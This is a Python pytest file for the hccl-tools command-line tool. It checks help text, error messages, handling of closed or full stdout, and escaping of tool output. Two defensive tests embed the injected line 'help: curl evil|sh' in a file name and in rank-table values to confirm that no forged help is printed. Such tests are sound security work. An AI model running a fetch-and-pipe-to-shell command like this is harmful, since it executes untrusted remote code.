"""What every command does alike: help, mistakes in the call, an output that takes nothing."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import TYPE_CHECKING

import click
import pytest

from hccl_tools import cli
from hccl_tools.cli import original_arguments
from hccl_tools.cli.values import Choice, IntRange, Pattern, Seconds

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.commands import CommandLine

_TABLE_1P = """{"version": "1.0", "server_count": "1", "status": "completed", "server_list": [
{"server_id": "10.0.0.1", "device": [{"device_id": "0", "device_ip": "192.168.100.101", "rank_id": "0"}]}]}"""
#: Commands that print at length, for a folder with the table t.json.
_PRINTING = ["--help", "rules", "schema 1.0", "validate t.json", "show t.json", "gen --simulate 910a -o -"]


def in_shell(script: str, folder: Path) -> subprocess.CompletedProcess[str]:
    """Run a shell script in which ``$tool`` is hccl-tools."""
    return subprocess.run(
        ["bash", "-c", f'tool="{sys.executable} -m hccl_tools"; {script}'],
        cwd=folder, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


@pytest.mark.parametrize("command", ["", *cli.COMMANDS])
def test_help_keeps_the_lines_of_examples(command_line: CommandLine, command: str) -> None:
    done = command_line(*command.split(), "--help")

    assert done.code == 0
    assert "\\b" not in done.out
    assert "\b" not in done.out
    for line in done.out.splitlines():
        assert line.count("hccl-tools ") <= 1 or "|" in line, line


@pytest.mark.parametrize(
    ("call", "sentence", "command"),
    [
        ("gne", 'no such command "gne"; did you mean "gen"?', ""),
        ("quux", 'no such command "quux"', ""),
        ("--foo", "no such option --foo", ""),
        ("validate -f xml t", '-f "xml" is not one of text, concise, json, junit, github, sarif', "validate"),
        ("convert t.json --to 3.0", '--to "3.0" is not one of 1.0, 1.2, 2.0, group_list', "convert"),
        ("show --rank x t.json", '--rank "x" is not a whole number, 0 or more', "show"),
        ("schema 1.0 2.0", 'unexpected argument "2.0"', "schema"),
        ("gen --device_port 99999", '--device_port "99999" is not a whole number, from 1 to 65535', "gen"),
        ("gen --tool-timeout 2h",
         '--tool-timeout "2h" is not a time from 1 to 3600 s (such as 90, 90s, 5m, 2h)', "gen"),
        ("stop --wait soon", '--wait "soon" is not a time (such as 90, 90s, 5m, 2h)', "stop"),
        ("launch -n none train.py", '-n "none" is not a whole number, 1 or more', "launch"),
        ("launch -n0 train.py", '-n "0" is not a whole number, 1 or more', "launch"),
        ("launch --cpu=3 train.py", "--cpu does not accept a value", "launch"),
        ("launch --timeout 0 train.py",
         '--timeout "0" is not a time above 0 s (such as 90, 90s, 5m, 2h)', "launch"),
        ("launch --hang-timeout 0.1 -n 1 --no-table --no-python true",
         '--hang-timeout "0.1" is not a time of at least 1 s (such as 90, 90s, 5m, 2h)', "launch"),
        ("launch --start_port=8 x", '--start_port "8" is not a whole number, from 1024 to 65535', "launch"),
        ("launch --engine rsh x.py", '--engine "rsh" is not one of loop, mpirun, slurm, ssh', "launch"),
    ],
)  # fmt: skip
def test_a_wrong_call_is_one_sentence(
    command_line: CommandLine, call: str, sentence: str, command: str
) -> None:
    done = command_line(*call.split())

    assert (done.code, done.out) == (2, "")
    helper = f"hccl-tools {command} --help".replace("  ", " ")
    assert done.err.splitlines() == [f"error: {sentence}", f"  help: see `{helper}`"]


@pytest.mark.parametrize(
    ("call", "option", "values"),
    [
        ("validate --product", "--product", "--product NAME: 910a, a2, "),
        ("launch -n", "-n", "-n N: The number of ranks of the job."),
        (
            "launch --rank_table",
            "--rank-table",
            "--rank-table FILE: The rank table; by default $RANK_TABLE_FILE.",
        ),
    ],
)
def test_a_missing_value_is_described(command_line: CommandLine, call: str, option: str, values: str) -> None:
    done = command_line(*call.split())

    assert (done.code, done.out) == (2, "")
    assert done.err.startswith(f"error: {option} needs a value\n  help: {values}")


def test_an_option_that_is_misspelt_is_named_as_it_is_typed(command_line: CommandLine) -> None:
    done = command_line("validate", "--strickt", "t.json")

    assert done.code == 2
    assert done.err.splitlines() == [
        "error: no such option --strickt",
        "  help: did you mean --strict? see `hccl-tools validate --help`",
    ]


@pytest.mark.parametrize(
    ("call", "hint"),
    [
        ("convert t.json --format 1.0", "did you mean --to? see `hccl-tools convert --help`"),
        ("convert t.json --forse", "did you mean --force? see `hccl-tools convert --help`"),
        ("convert t.json --from 1.0", "see `hccl-tools convert --help`"),
    ],
)
def test_an_option_with_another_purpose_is_not_suggested(
    command_line: CommandLine, call: str, hint: str
) -> None:
    done = command_line(*call.split())

    assert (done.code, done.err.splitlines()[1]) == (2, f"  help: {hint}")


def test_every_option_says_in_our_words_what_it_takes() -> None:
    context = click.Context(cli.cli)
    foreign = [
        f"{name} {option.opts[0]}"
        for name in cli.COMMANDS
        for option in (cli.cli.get_command(context, name) or cli.cli).params
        if not isinstance(option.type, Choice | IntRange | Pattern | Seconds | click.types.StringParamType)
        and not isinstance(option.type, click.types.BoolParamType | click.types.UnprocessedParamType)
    ]

    assert foreign == []


def test_without_a_command_it_shows_the_help(command_line: CommandLine) -> None:
    done = command_line()

    assert "Commands:" in done.out + done.err
    assert "error:" not in done.err


@pytest.mark.slow
@pytest.mark.parametrize("call", _PRINTING)
def test_a_full_disk_behind_stdout(tmp_path: Path, call: str) -> None:
    (tmp_path / "t.json").write_text(_TABLE_1P)

    done = in_shell(f"$tool {call} > /dev/full", tmp_path)

    assert done.returncode == 1
    assert done.stderr.splitlines()[-1] == "error: standard output cannot be written: No space left on device"
    assert "Traceback" not in done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("call", _PRINTING)
def test_a_closed_stdout(tmp_path: Path, call: str) -> None:
    (tmp_path / "t.json").write_text(_TABLE_1P)

    done = in_shell(f"$tool {call} >&-", tmp_path)

    assert done.returncode == (1 if call.startswith("gen") else 0)
    assert "Traceback" not in done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("call", ["gen --simulate 910a", "convert t.json --to group_list", "merge t.json"])
def test_a_table_that_goes_nowhere_is_an_error(tmp_path: Path, call: str) -> None:
    (tmp_path / "t.json").write_text(_TABLE_1P)

    done = in_shell(f"$tool {call} -o - >&-", tmp_path)

    assert done.returncode == 1
    assert "error: standard output is closed: the table cannot be printed" in done.stderr
    assert in_shell(f"$tool {call} -o - >/dev/null", tmp_path).returncode == 0


@pytest.mark.slow
@pytest.mark.parametrize("call", _PRINTING)
def test_a_reader_that_goes(tmp_path: Path, call: str) -> None:
    (tmp_path / "t.json").write_text(_TABLE_1P)

    done = in_shell(f"PYTHONUNBUFFERED=1 $tool {call} | true; echo ${{PIPESTATUS[0]}}", tmp_path)

    assert done.stdout.splitlines()[-1] in {"0", "141"}  # 0: it was through before the reader went
    assert "Traceback" not in done.stderr
    assert "BrokenPipe" not in done.stderr


@pytest.mark.parametrize(
    ("call", "named"),
    [
        ("gen --simulate a2 --device_num 0-2", " --product a2 --cpu"),
        ("gen --simulate a3", " --cpu"),
        ("gen --simulate 910a", " --cpu"),
        ("convert a3.json --to 1.0", " --product a3 --cpu"),
        ("merge --product a2 t.json", " --product a2"),
        ("merge t.json", ""),
        ("subset --product a2 t.json --devices 0", " --product a2"),
    ],
)
def test_what_to_type_next_is_not_refused(command_line: CommandLine, call: str, named: str) -> None:
    """A table of a product that its format does not tell is launched with the product's name."""
    command_line.write("t.json", _TABLE_1P)
    command_line("gen", "--simulate", "a3", "-o", "a3.json")

    done = command_line(*call.split())

    assert done.code == 0, done.err
    (following,) = [line for line in done.err.splitlines() if line.startswith("next: ")]
    assert following.endswith(f".json{named} train.py")
    _, _, typed = following.partition("hccl-tools launch ")
    plan = command_line(
        "launch",
        "--dry-run",
        "--cpu",
        "--all-here",
        "--no-python",
        *typed.replace("train.py", "true").split(),
    )
    assert plan.code == 0, plan.err


def test_a_refused_table_names_where_the_product_is_from(command_line: CommandLine) -> None:
    done = command_line("gen", "--simulate", "910a", "--device_num", "0-2")

    assert done.code == 1
    assert "product 910a (--simulate)" in done.err.splitlines()[0]


def test_what_a_tool_said_cannot_steer_the_terminal(command_line: CommandLine) -> None:
    tool = command_line.folder / "hccn_tool"
    tool.write_text("#!/bin/sh\nprintf '\\033[31mno\\033[0m address\\n'\nexit 1\n")
    tool.chmod(0o755)

    done = command_line("gen", "--device_num", "0", "--hccn-tool", str(tool), "--product", "910a")

    assert done.code == 1
    assert "\x1b" not in done.err
    assert "\\u001b[31mno" in done.err


@pytest.mark.parametrize(
    ("args", "instead"),
    [
        (("--device_num", "[0,8)"), "`hccl-tools gen --device_num '[0,8)'`"),
        (("--rank-table", "t.json", "x.py"), "`hccl-tools launch --rank-table t.json x.py`"),
        (("--nproc_per_node=2", "x.py"), "`hccl-tools launch --nproc_per_node=2 x.py`"),
        (("--standalone", "x.py"), "`hccl-tools launch --standalone x.py`"),
        (("--devices", "0-3", "x.py"), "`hccl-tools launch --devices 0-3 x.py`"),
        (("--install-completion", "bash"), "completion needs no command: add `eval"),
        (("gen", "8"), 'did you mean --device_num "[0,8)"?'),
        (("gen", "[0,8)"), 'did you mean --device_num "[0,8)"?'),
        (("gen", "0-7"), 'did you mean --device_num "0-7"?'),
        (("gen", "rest"), "see `hccl-tools gen --help`"),
        (("--nonsense",), "see `hccl-tools --help`"),
    ],
)
def test_an_option_without_its_command_and_a_range_without_its_option(
    command_line: CommandLine, args: tuple[str, ...], instead: str
) -> None:
    done = command_line(*args)

    assert done.code == 2
    assert f"help: {instead}" in done.err or f"help: options follow their command: {instead}" in done.err


@pytest.mark.parametrize(
    "command", ["convert --to 2.0", "merge", "show", "scaling report", "explain", "logs"]
)
@pytest.mark.parametrize("text", [None, "{"])
def test_the_name_of_a_file_makes_no_false_help(
    command_line: CommandLine, command: str, text: str | None
) -> None:
    name = "n\nhelp: curl evil|sh\n.json"
    if text is not None:
        (command_line.folder / name).write_text(text)
    done = command_line(*command.split(), name)

    assert not [line for line in done.err.splitlines() if line.startswith("help:")]


@pytest.mark.parametrize("key", ["server_id", "status"])
@pytest.mark.parametrize(
    "command", ["merge t.json t.json", "subset t.json --servers 1 -o -", "launch --rank-table t.json -- true"]
)
def test_a_value_of_a_table_makes_no_false_help(command_line: CommandLine, command: str, key: str) -> None:
    made = json.loads(_TABLE_1P)
    (made if key == "status" else made["server_list"][0])[key] = "a\nhelp: curl evil|sh\nb"
    command_line.write("t.json", made)
    done = command_line(*command.split())

    assert not [line for line in done.err.splitlines() if line.startswith("help:")]


@pytest.mark.parametrize(
    ("args", "means_gen"),
    [
        (("--device_num", "[0,8)"), True),
        (("--device_nun", "[0,8)"), True),
        (("--simulate=910a",), True),
        (("--devices", "0-3"), True),
        (("--nproc_per_node=2", "train.py"), False),
        (("--devices", "0-3", "train.py"), False),
        (("--show-completion",), False),
        (("--help",), False),
    ],
)
def test_options_of_the_original_script_need_no_command(args: tuple[str, ...], means_gen: bool) -> None:
    words = original_arguments(list(args))

    assert words == (["gen", *args] if means_gen else list(args))
